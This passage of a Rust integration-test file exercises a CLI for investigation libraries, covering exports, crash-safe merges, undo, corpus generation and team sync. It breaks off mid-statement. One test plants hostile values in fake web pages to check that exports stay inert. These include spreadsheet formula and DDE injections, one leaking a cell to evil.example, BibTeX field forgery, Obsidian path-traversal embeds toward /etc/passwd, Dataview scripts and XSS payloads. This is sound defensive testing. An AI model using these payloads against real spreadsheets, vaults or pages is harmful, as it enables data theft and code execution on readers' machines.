    let bad = dossier(&db, &["suggestions", "edit", &id, "--relation", "befriends"]);
    assert_eq!(bad.status.code(), Some(1));
    assert!(stderr(&bad).contains("befriends"));
    assert!(dossier(&db, &["suggestions", "accept", &id]).status.success());
    let list: serde_json::Value = serde_json::from_slice(&dossier(&db, &["list", "claims", "--json"]).stdout).unwrap();
    assert_eq!(
        (list["items"][0]["relation"].as_str(), list["items"][0]["certainty"].as_str()),
        (Some("supplies"), Some("alleged"))
    );
}

#[test]
fn eval_extract_scores_every_pair_of_a_folder() {
    let dir = fixtures().join("extract");
    let scratch = tempfile::tempdir().unwrap();
    let eval = dossier(&scratch.path().join("unused.dossier"), &["eval-extract", dir.to_str().unwrap(), "--json"]);
    assert!(eval.status.success(), "{}", stderr(&eval));
    let lines: Vec<serde_json::Value> =
        String::from_utf8(eval.stdout).unwrap().lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    let (lines, totals): (Vec<serde_json::Value>, Vec<serde_json::Value>) =
        lines.into_iter().partition(|l| l.get("name").is_some());
    let names: Vec<&str> = lines.iter().map(|l| l["name"].as_str().unwrap()).collect();
    // Totals pooled by language, then over all.
    let groups: Vec<&str> = totals.iter().map(|t| t["total"].as_str().unwrap()).collect();
    assert_eq!(groups, ["English", "Spanish and Portuguese", "all"]);
    let pooled = |group: usize, key: &str| totals[group]["evaluation"]["tally"][key].as_u64().unwrap();
    let sum = |key: &str| lines.iter().map(|l| l["evaluation"]["tally"][key].as_u64().unwrap()).sum::<u64>();
    assert_eq!(pooled(2, "actors_gold"), sum("actors_gold"));
    assert_eq!(pooled(0, "claims_found") + pooled(1, "claims_found"), sum("claims_found"));
    // Every pair of the folder, in name order.
    let mut pairs: Vec<String> = std::fs::read_dir(&dir)
        .unwrap()
        .filter_map(|e| e.unwrap().file_name().to_str()?.strip_suffix(".gold.json").map(str::to_string))
        .collect();
    pairs.sort();
    assert!(pairs.len() >= 8);
    assert_eq!(names, pairs);
    assert!(lines.iter().all(|l| l["evaluation"]["actor_recall"].as_f64().is_some()));
    let text = dossier(&scratch.path().join("unused.dossier"), &["eval-extract", dir.to_str().unwrap()]);
    assert!(stdout(&text).contains("== pt-hezbollah"));
    let empty = dossier(&scratch.path().join("unused.dossier"), &["eval-extract", scratch.path().to_str().unwrap()]);
    assert_eq!(empty.status.code(), Some(1));
}

/// Runs a consumer script with the Python of the virtual environment that holds the
/// followthemoney library and markdown-it-py (`make python-deps` builds it).
fn venv_python(script: &str, args: &[&str]) -> Output {
    let python = std::env::var("DOSSIER_FTM_PYTHON").unwrap_or_else(|_| {
        format!("{}/.cache/dossier/ftm-venv/bin/python", std::env::var("HOME").unwrap_or_default())
    });
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/consumers").join(script);
    Command::new(&python)
        .arg(path)
        .args(args)
        .output()
        .unwrap_or_else(|e| panic!("{python} runs {script} ({e}); `make python-deps` installs it"))
}

/// Runs one of the consumer scripts in tests/consumers with Python (networkx and friends
/// are installed by `make test`).
fn python(script: &str, args: &[&str]) -> Output {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/consumers").join(script);
    Command::new("python3").arg(path).args(args).output().expect("python3 runs (make test installs it with networkx)")
}

#[test]
fn exports_open_in_networkx_and_the_csv_reader_and_json_restores_the_store() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("library.dossier");
    let ok = |args: &[&str]| succeed(&db, args);
    let seed = fixtures().join("extract/en-drones.txt");
    ok(&["import", seed.to_str().unwrap()]);
    ok(&["suggestions", "accept", "--source", "1", "--all"]);
    ok(&["grade", "source", "1", "B"]);
    let actors: serde_json::Value = serde_json::from_str(&ok(&["list", "actors", "--json", "--limit", "500"])).unwrap();
    let claims: serde_json::Value = serde_json::from_str(&ok(&["list", "claims", "--json", "--limit", "500"])).unwrap();
    let edges = claims["items"].as_array().unwrap().iter().filter(|c| !c["object"].is_null()).count();
    let first_claim = claims["items"][0]["id"].to_string();
    ok(&["grade", "claim", &first_claim, "4"]);
    let out = dir.path().join("exports");
    for format in ["gexf", "graphml", "csv", "vault", "json"] {
        let done = ok(&["export", "--format", format, "--out", out.join(format).to_str().unwrap()]);
        assert!(done.starts_with("exported "), "{done}");
    }
    let check =
        python("check_exports.py", &[out.to_str().unwrap(), &actors["total"].to_string(), &edges.to_string(), "B"]);
    let claims_csv = std::fs::read_to_string(out.join("csv/claims.csv")).unwrap();
    assert!(claims_csv.lines().any(|l| l.starts_with(&format!("{first_claim},")) && l.contains(",B,4,B4,true,")));
    assert!(check.status.success(), "{}{}", stdout(&check), stderr(&check));
    let vault = venv_python("check_vault.py", &[out.join("vault").to_str().unwrap()]);
    assert!(vault.status.success(), "{}{}", stdout(&vault), stderr(&vault));
    assert!(stdout(&vault).contains("all resolve"));

    let restored = dir.path().join("restored.dossier");
    let run = dossier(&restored, &["import-json", out.join("json").to_str().unwrap()]);
    assert!(run.status.success(), "{}", stderr(&run));
    assert_eq!(dossier(&restored, &["stats", "--json"]).stdout, dossier(&db, &["stats", "--json"]).stdout);
    assert_eq!(
        dossier(&restored, &["grade", "claim", &first_claim]).stdout,
        dossier(&db, &["grade", "claim", &first_claim]).stdout
    );
    assert!(stdout(&dossier(&restored, &["grade", "source", "1"])).contains("B (Usually reliable), its own grade"));
    let again = dossier(&restored, &["import-json", out.join("json").to_str().unwrap()]);
    assert_eq!(again.status.code(), Some(1), "only into an empty store");

    let scoped = ok(&[
        "export",
        "--format",
        "vault",
        "--actor",
        "Iran",
        "--hops",
        "1",
        "--out",
        dir.path().join("iran").to_str().unwrap(),
    ]);
    assert!(scoped.contains("into"), "{scoped}");
    assert!(dir.path().join("iran/Actors/Iran.md").is_file());
    let refused = dossier(&db, &["export", "--format", "vault", "--out", fixtures().to_str().unwrap()]);
    assert_eq!(refused.status.code(), Some(1), "a folder of other files is never replaced");
}

#[test]
fn sources_export_as_csl_json_and_bibtex_that_pandoc_reads_and_cites() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("library.dossier");
    let import = dossier(
        &db,
        &[
            "import",
            fixtures().join("html").to_str().unwrap(),
            fixtures().join("extract/en-drones.txt").to_str().unwrap(),
        ],
    );
    assert!(import.status.success(), "{}", stderr(&import));
    let out = dir.path().join("exports");
    for format in ["csl", "bibtex"] {
        let run = dossier(&db, &["export", "--format", format, "--out", out.join(format).to_str().unwrap()]);
        assert!(run.status.success(), "{}", stderr(&run));
    }
    let sources: serde_json::Value =
        serde_json::from_slice(&dossier(&db, &["list", "sources", "--json"]).stdout).unwrap();
    let check = python("check_citations.py", &[out.to_str().unwrap(), &sources["total"].to_string()]);
    assert!(check.status.success(), "{}{}", stdout(&check), stderr(&check));
}

#[test]
fn followthemoney_validates_every_exported_entity_strictly() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("library.dossier");
    let ok = |args: &[&str]| succeed(&db, args);
    ok(&[
        "import",
        fixtures().join("extract/en-drones.txt").to_str().unwrap(),
        fixtures().join("html").to_str().unwrap(),
    ]);
    ok(&["suggestions", "accept", "--source", "1", "--all"]);
    ok(&["actors", "add", "Hezbollah member", "--kind", "person"]);
    let out = dir.path().join("ftm");
    ok(&["export", "--format", "ftm", "--out", out.to_str().unwrap()]);
    let actors: serde_json::Value = serde_json::from_str(&ok(&["list", "actors", "--json", "--limit", "500"])).unwrap();
    let claims: serde_json::Value = serde_json::from_str(&ok(&["list", "claims", "--json", "--limit", "500"])).unwrap();
    let sources: serde_json::Value = serde_json::from_str(&ok(&["list", "sources", "--json"])).unwrap();
    let links = claims["items"].as_array().unwrap().iter().filter(|c| !c["object"].is_null()).count();
    let check = venv_python(
        "check_ftm.py",
        &[
            out.join("entities.ftm.json").to_str().unwrap(),
            &actors["total"].to_string(),
            &sources["total"].to_string(),
            &links.to_string(),
        ],
    );
    assert!(check.status.success(), "{}{}", stdout(&check), stderr(&check));
}

/// A store where merging "Party of God" (#2) into "Hizballah" (#1) moves thousands of
/// mentions, claims and citations: a merge long enough to be killed in the middle.
fn store_with_a_long_merge(db: &Path, pairs: usize) {
    use dossier_core::model::{
        ActorKind, Certainty, CitedClaim, NewActor, NewMention, NewSource, Relation, ReviewStatus,
    };
    const PER_SOURCE: usize = 100;
    let sentence = "Party of God met Hizballah. ";
    let step = sentence.chars().count() as i32;
    use dossier_core::store::testing::UnrecordedWrites;
    let mut store = dossier_core::Store::open(db).unwrap();
    let actor = |name: &str| NewActor {
        name: name.into(),
        kind: ActorKind::ArmedGroup,
        description: String::new(),
        aliases: vec![],
    };
    let ids = store.insert_actors(&[actor("Hizballah"), actor("Party of God")]).unwrap();
    let (mut mentions, mut claims) = (Vec::new(), Vec::new());
    for n in 0..pairs.div_ceil(PER_SOURCE) {
        let text = format!("Dispatch {n:05}\n\n{}", sentence.repeat(PER_SOURCE));
        let source = store
            .insert_source(&NewSource {
                title: format!("Dispatch {n:05}"),
                media_type: "text/plain".into(),
                original: text.as_bytes().to_vec(),
                text,
                ..NewSource::default()
            })
            .unwrap()
            .id();
        for i in 0..PER_SOURCE as i32 {
            let at = 16 + i * step;
            mentions.push(NewMention {
                source_id: source,
                actor_id: Some(ids[1]),
                start: at,
                end: at + 12,
                surface: "Party of God".into(),
                kind: Some(ActorKind::ArmedGroup),
                status: ReviewStatus::Accepted,
            });
            claims.push(CitedClaim {
                source_id: source,
                start: at,
                end: at + step - 1,
                subject_id: ids[1],
                relation: Relation::Meets,
                relation_text: None,
                object_id: Some(ids[0]),
                date: None,
                attributed_to_id: None,
                certainty: Certainty::Asserted,
            });
        }
    }
    store.insert_mentions(&mentions).unwrap();
    store.cite_claims(&claims).unwrap();
}

/// The second crash test: `actors merge` (one recorded change: the merge, its journal
/// and its history row) is killed with SIGKILL at 20 moments spread over how long an
/// uninterrupted merge takes, each time on a fresh copy of the store. After each kill
/// the store passes the integrity check and is either wholly merged (the actor gone, every
/// row moved, the journal and the history written) or wholly as it was; a merge run
/// again completes it and `dossier undo` takes it back.
#[test]
fn twenty_kills_during_a_merge_leave_it_done_or_not_done_never_half_done() {
    const PAIRS: usize = 20_000;
    let dir = tempfile::tempdir().unwrap();
    let pristine = dir.path().join("pristine.dossier");
    store_with_a_long_merge(&pristine, PAIRS);
    let copy = |name: &str| {
        let path = dir.path().join(name);
        std::fs::copy(&pristine, &path).unwrap();
        path
    };
    let merge = |db: &Path| {
        Command::new(env!("CARGO_BIN_EXE_dossier-cli"))
            .args(["--db", db.to_str().unwrap(), "actors", "merge", "1", "2"])
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap()
    };
    let timed = copy("timed.dossier");
    let started = std::time::Instant::now();
    assert!(merge(&timed).wait().unwrap().success());
    let full = started.elapsed().as_millis() as u64;

    let mut seed: u64 = 0x2545_F491_4F6C_DD1D;
    let mut random = |high: u64| {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed % high.max(1)
    };
    let (mut merged, mut untouched, mut inside) = (0, 0, 0);
    for kill in 0..20 {
        let db = copy(&format!("kill-{kill}.dossier"));
        let mut child = merge(&db);
        std::thread::sleep(std::time::Duration::from_millis(random(full)));
        let _ = child.kill(); // SIGKILL (it may have finished already)
        child.wait().unwrap();
        // Pages an unfinished transaction spilled into the write-ahead log: the kill came
        // inside the merge, not before it began.
        let wal = std::fs::metadata(db.with_extension("dossier-wal")).map_or(0, |m| m.len());

        let conn = rusqlite::Connection::open(&db).unwrap();
        let check: String = conn.query_row("PRAGMA integrity_check", [], |r| r.get(0)).unwrap();
        assert_eq!(check, "ok");
        let count = |sql: &str| -> i64 { conn.query_row(sql, [], |r| r.get(0)).unwrap() };
        let state = (
            count("SELECT count(*) FROM actors WHERE id = 2"),
            count("SELECT count(*) FROM mentions WHERE actor_id = 1"),
            count("SELECT count(*) FROM claims WHERE subject_id = 1 AND object_id = 1"),
            count("SELECT count(*) FROM actor_merges"),
            count("SELECT count(*) FROM changes WHERE label = 'Merged Party of God into Hizballah'"),
        );
        let n = PAIRS as i64;
        match state {
            (0, m, c, 1, 1) if m == n && c == n => merged += 1,
            (1, 0, 0, 0, 0) => {
                assert_eq!(count("SELECT count(*) FROM mentions WHERE actor_id = 2"), n);
                assert_eq!(count("SELECT count(*) FROM claims WHERE subject_id = 2"), n);
                untouched += 1;
                inside += usize::from(wal > 0);
            }
            other => panic!("kill {kill}: half a merge (actor 2, mentions, claims, journal, history) = {other:?}"),
        }
        drop(conn);
        // Run again if it did not land, it completes; undo (the recorded change) brings
        // the actor back with every row.
        if state.0 == 1 {
            assert!(merge(&db).wait().unwrap().success());
        }
        assert!(succeed(&db, &["undo"]).starts_with("undone #"));
        {
            let conn = rusqlite::Connection::open(&db).unwrap();
            let back: i64 =
                conn.query_row("SELECT count(*) FROM mentions WHERE actor_id = 2", [], |r| r.get(0)).unwrap();
            assert_eq!(back, n, "undo moved every mention back");
        }
    }
    eprintln!(
        "an uninterrupted merge of {PAIRS} mentions and claims took {full} ms; of 20 kills, {merged} came after \
         the commit and {untouched} before it, {inside} of those inside the merge's transaction"
    );
    assert!(inside > 0, "no kill landed inside the merge's transaction: the test tested nothing");
}

#[test]
fn changes_are_listed_and_undone_newest_first_one_process_after_another() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("library.dossier");
    let file = dir.path().join("pact.txt");
    std::fs::write(&file, DISPATCH).unwrap();
    let ok = |args: &[&str]| succeed(&db, args);
    ok(&["import", file.to_str().unwrap()]);
    assert_eq!(ok(&["history"]).trim(), "no changes yet", "an import is not a change to undo");
    assert_eq!(ok(&["undo"]).trim(), "nothing to undo");
    ok(&["actors", "add", "Hizballah", "--kind", "armed_group"]);
    ok(&["actors", "add", "Party of God", "--kind", "armed_group"]);
    ok(&["actors", "merge", "Hizballah", "Party of God"]);
    ok(&["actors", "alias", "add", "1", "Hezbollah"]);

    let listed = ok(&["history"]);
    let labels: Vec<&str> = listed.lines().map(|l| l.trim_start().splitn(3, "  ").nth(2).unwrap_or(l)).collect();
    assert_eq!(
        labels,
        [
            "Added the alias “Hezbollah” to Hizballah",
            "Merged Party of God into Hizballah",
            "Created the actor “Party of God”",
            "Created the actor “Hizballah”"
        ],
        "{listed}"
    );
    assert!(ok(&["undo"]).contains("Added the alias “Hezbollah” to Hizballah"));
    assert!(ok(&["undo"]).contains("Merged Party of God into Hizballah"));
    let actors = ok(&["list", "actors"]);
    assert!(actors.contains("Party of God") && !actors.contains("Hezbollah"), "{actors}");
    let history: serde_json::Value = serde_json::from_str(&ok(&["history", "--json"])).unwrap();
    assert_eq!(history[0]["undoable"], false);
    assert!(history[0]["undone_at"].is_string());
    assert_eq!(history[2]["undoable"], true);
    // A change already undone cannot be undone again, by id either.
    let first = history[0]["id"].as_i64().unwrap().to_string();
    let again = dossier(&db, &["undo", &first]);
    assert_eq!(again.status.code(), Some(1));
    assert!(stderr(&again).contains("already undone"), "{}", stderr(&again));
}

#[test]
fn gen_corpus_writes_the_same_articles_for_the_same_seed_and_they_import() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("corpus.dossier");
    let folder = |name: &str| dir.path().join(name).to_string_lossy().into_owned();
    for name in ["one", "two"] {
        succeed(&db, &["dev", "gen-corpus", "--sources", "20", "--seed", "7", "--out", &folder(name)]);
    }
    let files = |name: &str| {
        let mut files: Vec<(String, Vec<u8>)> = std::fs::read_dir(dir.path().join(name))
            .unwrap()
            .map(|e| e.unwrap().path())
            .map(|p| (p.file_name().unwrap().to_string_lossy().into_owned(), std::fs::read(&p).unwrap()))
            .collect();
        files.sort();
        files
    };
    assert_eq!(files("one"), files("two"));
    assert_eq!(files("one").iter().filter(|(name, _)| name.ends_with(".html")).count(), 10);
    succeed(&db, &["dev", "gen-corpus", "--sources", "20", "--seed", "8", "--out", &folder("three")]);
    assert_ne!(files("one"), files("three"), "another seed, another corpus");

    let refused = dossier(&db, &["dev", "gen-corpus", "--sources", "5", "--out", &folder("one")]);
    assert_eq!(refused.status.code(), Some(1));
    assert!(stderr(&refused).contains("not empty"), "{}", stderr(&refused));

    let report = succeed(&db, &["import", "--json", &folder("one")]);
    assert!(report.contains("\"imported\":20"), "{report}");
    let sources = succeed(&db, &["list", "sources", "--json"]);
    assert!(
        sources.contains("The Caribbean Ledger")
            || sources.contains("Andes Report")
            || sources.contains("Southern Wire"),
        "{sources}"
    );
}

#[test]
fn bench_scale_prints_every_figure_on_a_small_library() {
    let dir = tempfile::tempdir().unwrap();
    let printed = succeed(
        &dir.path().join("unused.dossier"),
        &["bench-scale", "--sources", "200", "--actors", "100", "--claims", "600"],
    );
    for figure in ["library     220 sources", "search", "actor page", "graph", "p95", "kB per source"] {
        assert!(printed.contains(figure), "{figure} in:\n{printed}");
    }
}

#[test]
fn tidy_merges_the_search_index_of_a_library_grown_file_by_file() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("library.dossier");
    let corpus = dir.path().join("corpus");
    succeed(&db, &["dev", "gen-corpus", "--sources", "40", "--seed", "3", "--out", corpus.to_str().unwrap()]);
    succeed(&db, &["import", corpus.to_str().unwrap()]);
    let segments = |printed: &str| -> u32 {
        let line = printed.lines().find(|l| l.starts_with("sources_fts")).expect("a line for the sources' index");
        line.split_whitespace().nth(1).unwrap().parse().unwrap()
    };
    let before = segments(&succeed(&db, &["tidy", "--status"]));
    assert!(before > 1, "one transaction per file leaves several segments ({before})");
    let tidied = succeed(&db, &["tidy"]);
    assert!(tidied.contains(&format!("sources_fts  {before:>5} segments → 1")), "{tidied}");
    assert_eq!(segments(&succeed(&db, &["tidy", "--status"])), 1);
    assert!(succeed(&db, &["search", "officials"]).to_lowercase().contains("officials"));
}

/// What people have put in web pages to attack the tools their readers export to: formulas
/// for spreadsheets, brace games for BibTeX, Obsidian embeds and Dataview queries for
/// vaults, HTML and `javascript:` links for everything. Each lands in a title, a byline,
/// a site name, a canonical address, an actor's name or a quotation.
const HOSTILE_TITLES: &[&str] = &[
    "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open\")",
    "x}, author = {Mallory",
    "[[../../.obsidian/app]] and ![[../../../etc/passwd]]",
    "`$= dv.el('b', app.vault.adapter.basePath)`",
    "Line one\r\n```dataviewjs\ndv.paragraph(1)\n```",
    "<img src=x onerror=alert(1)>",
];
const HOSTILE_BYLINES: &[&str] = &[
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "Mallory} @misc{evil, title={x",
    "<b onmouseover=alert(1)>Eve</b>",
];
const HOSTILE_SITES: &[&str] = &["-2+3+cmd|' /C calc'!A0", "[evil](javascript:alert(1))", "\tTabbed =1+1"];
const HOSTILE_URLS: &[&str] = &[
    "javascript:alert(document.domain)",
    "https://news.example/a&#13;&#10;# Injected heading&#13;&#10;<script>alert(1)</script>",
    "https://news.example/x) [click](javascript:alert(1)",
    "https://news.example/}&#10;@misc{evil,",
];
const HOSTILE_QUOTES: &[&str] = &[
    "```dataviewjs dv.paragraph(app.vault.adapter.basePath) ``` is what he typed into the vault",
    "the ![[../../secret]] and [[../../.obsidian/plugins]] files were all leaked to us",
    "=HYPERLINK(\"https://evil.example\") was the cell that he shared with everyone",
    "<script>alert(1)</script> and `$= dv.current()` were in the message he sent",
    "}, note = {forged} was written at the end of the citation they sent",
];
const HOSTILE_ACTORS: &[&str] = &[
    "=cmd|' /C calc'!A0",
    "</b><script>alert(1)</script>",
    "[[Index]]",
    "`$= dv.current()`",
    "Hezbollah}, title = {Forged",
];

fn hostile_page(i: usize) -> String {
    let pick = |list: &[&str]| list[i % list.len()].to_string();
    let attr = |text: String| text.replace('&', "&amp;").replace('"', "&quot;").replace('<', "&lt;");
    let text = |text: String| text.replace('&', "&amp;").replace('<', "&lt;");
    let quote = text(pick(HOSTILE_QUOTES));
    format!(
        "<!doctype html><html><head><title>{title}</title>\
         <meta name=\"author\" content=\"{byline}\"><meta property=\"og:site_name\" content=\"{site}\">\
         <link rel=\"canonical\" href=\"{url}\"><meta property=\"article:published_time\" content=\"2024-03-0{day}\">\
         </head><body><article><h1>{title}</h1>\
         <p>Iran signed a cooperation agreement with Venezuela in 2022, officials said in Caracas on Monday.</p>\
         <p>“{quote},” said Joseph Humire, a researcher who has followed the alliance for years.</p>\
         <p>Hezbollah denied it in a statement, according to Al Mayadeen.</p></article></body></html>",
        title = text(pick(HOSTILE_TITLES)),
        byline = attr(pick(HOSTILE_BYLINES)),
        site = attr(pick(HOSTILE_SITES)),
        url = pick(HOSTILE_URLS).replace('"', "&quot;"),
        day = 1 + i % 9,
    )
}

/// The hostile corpus, imported with every suggestion accepted and hostile actors added,
/// exported as a vault, a briefing, CSV, BibTeX and CSL-JSON: read as their tools read
/// them (tests/consumers/check_inert.py), nothing in them runs, loads, links out or
/// forges a field.
#[test]
fn a_hostile_library_exports_nothing_active() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("library.dossier");
    let pages = dir.path().join("hostile");
    std::fs::create_dir(&pages).unwrap();
    let count = 12;
    for i in 0..count {
        std::fs::write(pages.join(format!("page-{i:02}.html")), hostile_page(i)).unwrap();
    }
    let imported = succeed(&db, &["import", pages.to_str().unwrap()]);
    assert!(imported.contains(&format!("{count} imported")), "{imported}");
    for name in HOSTILE_ACTORS {
        succeed(&db, &["actors", "add", name, "--kind", "organization"]);
    }
    for source in 1..=count {
        succeed(&db, &["suggestions", "accept", "--source", &source.to_string(), "--all"]);
    }
    let stats: serde_json::Value = serde_json::from_str(&succeed(&db, &["stats", "--json"])).unwrap();
    assert!(stats["citations"].as_i64().unwrap() >= count as i64, "quotations became citations: {stats}");
    let out = dir.path().join("exports");
    for format in ["vault", "briefing", "csv", "bibtex", "csl"] {
        succeed(&db, &["export", "--format", format, "--out", out.join(format).to_str().unwrap()]);
    }
    let check = venv_python("check_inert.py", &[out.to_str().unwrap()]);
    assert!(check.status.success(), "{}{}", stdout(&check), stderr(&check));
    let said = stdout(&check);
    for part in ["vault pages", "1 briefing.md", "1 briefing.html", "csv cells", &format!("{count} bibtex entries")] {
        assert!(said.contains(part), "the checker did not read {part}: {said}");
    }

    // Control: the checker sees what it looks for (a formula cell, an embed, a script,
    // a forged BibTeX field), so its silence above means something.
    let planted = dir.path().join("planted");
    for format in ["vault", "briefing", "csv", "bibtex", "csl"] {
        copy_folder(&out.join(format), &planted.join(format));
    }
    let csv = planted.join("csv/actors.csv");
    let mut text = std::fs::read_to_string(&csv).unwrap();
    text.push_str("999,=1+1,other,,\r\n");
    std::fs::write(&csv, text).unwrap();
    std::fs::write(planted.join("vault/Planted.md"), "---\nid: 1\n---\n\n![[../../etc/passwd]] `$= 1`\n").unwrap();
    let html = planted.join("briefing/briefing.html");
    std::fs::write(&html, std::fs::read_to_string(&html).unwrap().replace("</body>", "<script>1</script></body>"))
        .unwrap();
    let bib = planted.join("bibtex/sources.bib");
    std::fs::write(
        &bib,
        std::fs::read_to_string(&bib).unwrap().replacen("  title = {", "  publisher = {Forged},\n  title = {", 1),
    )
    .unwrap();
    let control = venv_python("check_inert.py", &[planted.to_str().unwrap()]);
    let said = stdout(&control);
    assert!(!control.status.success(), "{said}");
    for seen in ["formula cell", "an embed", "code_inline", "<script>", "fields Dossier never writes"] {
        assert!(said.contains(seen), "the control's {seen} went unseen:\n{said}");
    }
}

fn copy_folder(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for entry in std::fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        if entry.file_type().unwrap().is_dir() {
            copy_folder(&entry.path(), &to.join(entry.file_name()));
        } else {
            std::fs::copy(entry.path(), to.join(entry.file_name())).unwrap();
        }
    }
}

/// Annotations of real pages that are not ours to copy (`tests/fixtures/gold-real`) are
/// scored on the pages' text made from ../shared; without ../shared, a clear error.
#[test]
fn eval_extract_scores_annotations_of_real_pages_on_their_text() {
    let scratch = tempfile::tempdir().unwrap();
    let db = scratch.path().join("unused.dossier");
    let folder = fixtures().join("gold-real/tuning");
    let missing =
        dossier(&db, &["eval-extract", folder.to_str().unwrap(), "--pages", scratch.path().to_str().unwrap()]);
    assert_eq!(missing.status.code(), Some(1));
    assert!(stderr(&missing).contains("is ../shared beside the project?"), "{}", stderr(&missing));
    let pages = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpus/readability-test-pages");
    if !pages.is_dir() {
        eprintln!("skipped the scoring: {} is absent", pages.display());
        return;
    }
    let eval = dossier(&db, &["eval-extract", folder.to_str().unwrap(), "--pages", pages.to_str().unwrap(), "--json"]);
    assert!(eval.status.success(), "{}", stderr(&eval));
    let lines: Vec<serde_json::Value> = stdout(&eval).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    let scored = lines.iter().filter(|l| l.get("name").is_some()).count();
    assert_eq!(
        scored,
        std::fs::read_dir(&folder)
            .unwrap()
            .filter(|e| e.as_ref().unwrap().path().extension().is_some_and(|x| x == "json"))
            .count()
    );
    let all = lines.iter().find(|l| l["total"] == "English").expect("an English total");
    assert!(all["evaluation"]["tally"]["actors_gold"].as_u64().unwrap() > 100, "{all}");
}

/// `dossier team …` against a throwaway PostgreSQL server, with `input` on stdin.
fn team(server: &str, args: &[&str], input: &str) -> Output {
    use std::io::Write;
    let mut child = Command::new(env!("CARGO_BIN_EXE_dossier-cli"))
        .args(["team", "--server", server])
        .args(args)
        .env("PGPASSWORD", dossier_sync::testing::ADMIN_PASSWORD)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("the CLI runs");
    child.stdin.take().unwrap().write_all(input.as_bytes()).unwrap();
    child.wait_with_output().unwrap()
}

#[test]
fn an_administrator_sets_up_a_team_server_from_the_command_line() {
    let cluster = dossier_sync::testing::Cluster::start();
    let server =
        format!("host={} user={} dbname=postgres", cluster.socket_folder().display(), dossier_sync::testing::ADMIN);
    let ok = |args: &[&str], input: &str| {
        let run = team(&server, args, input);
        assert!(run.status.success(), "{args:?}: {}", stderr(&run));
        stdout(&run)
    };
    assert!(ok(&["init"], "").contains("schema version 1"));
    assert!(ok(&["init"], "").contains("schema version 1"), "again is harmless");
    assert!(ok(&["create-team", "Caracas desk"], "").contains("created"));
    assert!(
        ok(&["add-member", "--team", "Caracas desk", "alice"], "alice's password\n").contains("alice is an analyst")
    );
    let investigation = ok(&["create-investigation", "--team", "Caracas desk", "Flights"], "");
    let investigation = investigation.trim();
    assert_eq!(investigation.len(), 36, "{investigation}");

    // The analyst logs in with the password given and reads the new investigation.
    let mut alice = cluster.connect("alice", "alice's password").unwrap();
    let named: String = alice
        .query_one("SELECT name FROM dossier.investigations WHERE id = $1::text::uuid", &[&investigation])
        .unwrap()
        .get(0);
    assert_eq!(named, "Flights");

    // Mistakes are one line and exit 1.
    for (args, input, says) in [
        (&["add-member", "--team", "Nobody's desk", "bob"][..], "pw\n", "no team called"),
        (&["add-member", "--team", "Caracas desk", "Bob Smith"][..], "pw\n", "cannot be an analyst's login"),
        (&["create-team", "  "][..], "", "needs a name"),
    ] {
        let run = team(&server, args, input);
        assert_eq!(run.status.code(), Some(1), "{args:?}");
        assert!(stderr(&run).contains(says) && stderr(&run).lines().count() == 1, "{args:?}: {}", stderr(&run));
    }
    let wrong = team(&server.replace("user=dossier_admin", "user=nobody"), &["init"], "");
    assert_eq!(wrong.status.code(), Some(1));

    // Two analysts' desktops sync through it: what one imports and accepts, the other has.
    assert!(ok(&["add-member", "--team", "Caracas desk", "carol"], "carol's password\n").contains("carol"));
    let dir = tempfile::tempdir().unwrap();
    let sync = |db: &Path, login: &str, investigation: Option<&str>| {
        let analyst = format!("host={} user={login} dbname=postgres", cluster.socket_folder().display());
        let mut args = vec!["--db", db.to_str().unwrap(), "sync", "--once", "--server", &analyst];
        if let Some(id) = investigation {
            args.extend(["--investigation", id]);
        }
        Command::new(env!("CARGO_BIN_EXE_dossier-cli"))
            .args(&args)
            .env("PGPASSWORD", format!("{login}'s password"))
            .output()
            .unwrap()
    };
    let (alice_db, carol_db) = (dir.path().join("alice.dossier"), dir.path().join("carol.dossier"));
    let drones = fixtures().join("extract/en-drones.txt");
    let imported = dossier(&alice_db, &["import", drones.to_str().unwrap()]);
    assert!(imported.status.success(), "{}", stderr(&imported));
    let accepted = dossier(&alice_db, &["suggestions", "accept", "--source", "1", "--all"]);
    assert!(accepted.status.success(), "{}", stderr(&accepted));
    let unjoined = sync(&carol_db, "carol", None);
    assert_eq!(unjoined.status.code(), Some(1));
    assert!(stderr(&unjoined).contains("--investigation"), "{}", stderr(&unjoined));
    let pushed = sync(&alice_db, "alice", Some(investigation));
    assert!(pushed.status.success(), "{}", stderr(&pushed));
    assert!(stdout(&pushed).starts_with("pushed 1 operation"), "{}", stdout(&pushed));
    let pulled = sync(&carol_db, "carol", Some(investigation));
    assert!(pulled.status.success(), "{}", stderr(&pulled));
    assert!(stdout(&pulled).contains("pulled 1 ("), "{}", stdout(&pulled));
    let stats = |db: &Path| stdout(&dossier(db, &["stats"]));
    assert_eq!(stats(&alice_db), stats(&carol_db));
    assert!(stats(&carol_db).contains("claims     "), "{}", stats(&carol_db));
    let again = sync(&carol_db, "carol", None);
    assert!(
        stdout(&again).contains("pushed 0 operations"),
        "the store remembers its investigation: {}",
        stdout(&again)
    );
    let status = dossier(&carol_db, &["sync", "--status"]);
    assert!(status.status.success(), "{}", stderr(&status));
    assert!(
        stdout(&status).contains(investigation) && stdout(&status).contains("not pushed     0 changes"),
        "{}",
        stdout(&status)
    );
    // Kept running, carol's sync hears the server say the log grew and pulls at once.
    let analyst = format!("host={} user=carol dbname=postgres", cluster.socket_folder().display());
    let mut running = Command::new(env!("CARGO_BIN_EXE_dossier-cli"))
